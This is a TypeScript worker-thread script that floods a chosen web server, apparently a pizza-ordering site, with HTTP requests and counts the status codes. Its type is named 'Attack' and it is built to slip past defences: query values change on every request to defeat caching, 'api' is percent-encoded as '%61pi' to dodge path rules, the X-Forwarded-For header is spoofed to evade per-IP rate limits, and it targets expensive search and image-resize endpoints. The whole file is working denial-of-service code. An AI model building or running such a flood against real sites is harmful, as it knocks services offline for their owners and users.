import { Agent, request } from 'node:http';
import { parentPort, workerData } from 'node:worker_threads';

type Attack = { readonly url: string; readonly from: string; readonly connections: number };
// Whoever starts this thread says so.
const { url, from, connections } = workerData as Attack;

/** Each costs something else, and is never asked for twice in the same words. */
const targets = [
  (at: number) => `/home?attack=${at}`,
  (at: number) => `/pizze?page=${at}`,
  (at: number) => `/attack-${at}`,
  (at: number) => `/thank-you?ordine=${at}`,
  (at: number) => `/api/places?search=qwertyuio${at}`,
  (at: number) => `/%61pi/places?search=asdfghjkl${at}`,
  (at: number) => `/api/places/at?lat=37.5${at}&lng=15.1`,
  (at: number) => `/api/products/search?search=margherita${at}`,
  (at: number) => `/api/products?page=${at}&paginate=60`,
  (at: number) => `/%61pi/products?without=milk&page=${at}`,
  (at: number) => `/thumbnails/img_${String(at).padStart(16, '0')}?w=${at}`,
  (at: number) => `/login/facebook?attack=${at}`,
  (at: number) => `/sitemap.xml?attack=${at}`,
  () => '/home',
  () => '/api/brands/1',
];

const agent = new Agent({ keepAlive: true, maxSockets: connections });
const answers: Record<string, number> = {};
let count = 0;
let stopped = false;

const ask = () =>
  new Promise<void>((resolve) => {
    count += 1;
    const path = targets[count % targets.length]?.(count) ?? '/';
    const headers = { 'x-forwarded-for': from, 'accept-encoding': 'br' };
    const done = (status: string) => {
      answers[status] = (answers[status] ?? 0) + 1;
      resolve();
    };
    request(url + path, { agent, headers }, (response) => {
      response.resume();
      response.on('end', () => done(String(response.statusCode)));
    })
      .on('error', () => done('broken'))
      .end();
  });

const go = async () => {
  while (!stopped) await ask();
};

parentPort?.once('message', () => {
  stopped = true;
  parentPort?.postMessage(answers);
});
for (let at = 0; at < connections; at += 1) void go();
